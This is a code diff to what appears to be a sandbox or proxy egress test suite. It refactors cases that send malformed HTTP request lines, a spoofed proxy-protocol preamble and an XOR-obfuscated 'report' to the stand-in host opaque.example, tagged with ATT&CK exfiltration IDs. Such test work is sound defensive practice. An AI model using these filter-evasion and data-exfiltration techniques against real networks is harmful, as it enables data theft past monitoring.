@@ -542,32 +542,14 @@ lines = [b"POST" + blank + b"/in" + blank + b"HTTP/1.1" for blank in (b"\\xa0", 
 lines += [b"SET_PARAMETER /in RTSP/1.0", b"GET_PARAMETER /in rtsp/1.1", b"X_SOURCE /in ICE/1.0", b"\\x1cPOST /in HTTP/1.1", b"{ /in HTTP/1.1", b"post /in\\x01 HTTP/1.1"]
 for line in lines:
     for parts in ([line + body], [line[:6], line[6:], body]):
-        mark()
-        try:
-            with socket.create_connection(("opaque.example", 8080)) as s:
-                for part in parts:
-                    s.sendall(part)
-                    time.sleep(0.05)
-                s.settimeout(0.3)
-                s.recv(10)
-        except OSError as e:
-            print("no:", type(e).__name__, e)
+        say("opaque.example", 8080, *parts)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
     NetAttempt(29, "what a proxy says before a request, in binary", "T1041|T1071.001", """
 said = b"POST /in HTTP/1.1\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
 signature = b"\\r\\n\\r\\n\\0\\r\\nQUIT\\n"
 for header in (b"\\x21\\x11\\0\\x0c" + bytes(range(12)), b"\\x20\\0\\0\\0"):
     for parts in ([signature + header + said], [signature[:7], signature[7:], header, said]):
-        mark()
-        try:
-            with socket.create_connection(("opaque.example", 8080)) as s:
-                for part in parts:
-                    s.sendall(part)
-                    time.sleep(0.05)
-                s.settimeout(0.3)
-                s.recv(10)
-        except OSError as e:
-            print("no:", type(e).__name__, e)
+        say("opaque.example", 8080, *parts)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
     NetAttempt(19, "a body in a coding that nobody undoes", "T1041|T1027", """
 hidden = bytes(b ^ 0x55 for b in report.encode())
